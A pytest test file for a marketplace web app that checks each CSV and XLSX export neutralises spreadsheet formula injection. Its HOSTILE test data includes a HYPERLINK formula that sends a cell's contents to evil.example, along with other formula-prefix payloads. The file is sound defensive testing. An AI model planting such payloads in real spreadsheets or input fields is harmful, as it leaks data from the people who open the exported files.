"""Every spreadsheet export neutralises text that would run as a formula (CSV injection).

Hostile names start with each of ``= + - @ \\t \\r``; every CSV and XLSX route of the site is run and its
cells are checked: a CSV text cell never starts with one of those characters (it gets a leading ``'``), an
XLSX cell is never a formula. A last test makes sure this file names every export route of the app.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest

from marketplace.exports import FORMULA_PREFIXES

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B2,"点此查看")', "+1+2恶意", "-3+4恶意", "@SUM(A1)恶意",
           "\t=1+1恶意", "\r=1+1恶意"]

#: Export endpoints this file runs (see test_every_export_route_is_covered).
COVERED = {"scenarios.export", "applications.export", "appraisal.export", "statistics.dashboard_export",
           "statistics.public_export", "api.ocds_bulk_csv", "scenarios.import_template"}


def csv_cells(response) -> list[str]:
    assert response.status_code == 200, response.get_data(as_text=True)[-3000:]
    text = response.get_data().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(response) -> list[openpyxl.cell.Cell]:
    assert response.status_code == 200, response.get_data(as_text=True)[-3000:]
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_neutral(response, expected: list[str]) -> None:
    cells = csv_cells(response)
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    for value in expected:
        assert "'" + value in cells, value


def assert_xlsx_neutral(response, expected: list[str]) -> None:
    cells = xlsx_cells(response)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in expected:
        # XML stores a carriage return as a line feed; the scenario export trims its text.
        assert {value, value.replace("\r", "\n"), value.strip()} & texts, value


def hostile_batches():
    from marketplace.extensions import db
    from marketplace.models import Batch, BatchLevel, BatchStage, District

    yuzhong = db.session.query(District).filter_by(code="yuzhong").one()
    return [Batch(name=name, level=BatchLevel.DISTRICT, district=yuzhong, stage=BatchStage.COLLECT,
                  published_on=date.today()) for name in HOSTILE]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_public_scenario_exports(client, make_scenario, fmt):
    for title in HOSTILE:
        make_scenario(title=title)
    response = client.get(f"/scenarios/export.{fmt}")
    (assert_csv_neutral if fmt == "csv" else assert_xlsx_neutral)(response, HOSTILE)


def test_applications_csv(client, login, make_scenario, make_user, make_org):
    from marketplace import clock
    from marketplace.extensions import db
    from marketplace.models import Application, ApplicationStatus

    now = clock.now()
    scenario = make_scenario("published", deadline=now - timedelta(days=1))
    for name in HOSTILE:
        firm = make_user("enterprise", organisation=make_org("software_enterprise", name=name))
        db.session.add(Application(
            scenario=scenario, organisation=firm.organisation, created_by=firm, status=ApplicationStatus.SUBMITTED,
            summary="方案", approach="方案", team=[], price_wan=100, plan="计划", milestones=[],
            declares_meets_requirements=True, declares_no_conflict=True, submitted_at=now - timedelta(days=3),
            confirmed_revision=scenario.revision))
    db.session.commit()
    login(make_user("owner", organisation=scenario.owner))
    assert_csv_neutral(client.get(f"/scenarios/{scenario.id}/applications.csv"), HOSTILE)


def test_appraisal_workbook(client, login, make_scenario, make_user):
    from marketplace.appraisal import computation, services
    from marketplace.extensions import db

    published = datetime(2025, 3, 1, tzinfo=UTC)
    for title in HOSTILE:
        make_scenario("published", title=title, published_at=published)
    city = make_user("city_staff")
    data = {"year": 2025, "period": "annual", "reward_pool_yuan": "12000000", "cap_yuan": "5000000", "top_n": 3}
    data.update({f"w_{i.code}": str(i.default_weight) for i in computation.INDICATORS})
    appraisal = services.create_appraisal(db.session, city, data)
    db.session.commit()
    login(city)
    assert_xlsx_neutral(client.get(f"/appraisals/{appraisal.id}/export.xlsx"), HOSTILE)


def test_statistics_workbooks(client, login, make_scenario, make_user):
    for batch in hostile_batches():
        make_scenario(batch=batch)
    login(make_user("city_staff"))
    for source, export, expect in (("/dashboard/districts/data.json", "/dashboard/districts/export.xlsx", "batch"),
                                   ("/statistics/data.json", "/statistics/export.xlsx", None)):
        keys = [t["key"] for t in client.get(source).json["tables"]]
        assert keys
        for key in keys:
            response = client.get(f"{export}?table={key}")
            assert_xlsx_neutral(response, HOSTILE if key == expect else [])


def test_ocds_bulk_csv(client, make_scenario):
    from marketplace import clock

    for title in HOSTILE:
        make_scenario(title=title)
    year = clock.to_local(clock.now() - timedelta(days=1)).year
    assert_csv_neutral(client.get(f"/api/v1/ocds/bulk/{year}.csv"), HOSTILE)


def test_import_template_lists_owner_names_as_text(client, login, make_org, make_user):
    for name in HOSTILE:
        make_org("government", district="yuzhong", name=name)
    login(make_user("district_staff", district="yuzhong"))
    assert_xlsx_neutral(client.get("/scenarios/import/template.xlsx"), HOSTILE)


def test_every_export_route_is_covered(app):
    exports = {rule.endpoint for rule in app.url_map.iter_rules()
               if rule.rule.endswith((".csv", ".xlsx", ".<fmt>"))}
    assert exports == COVERED
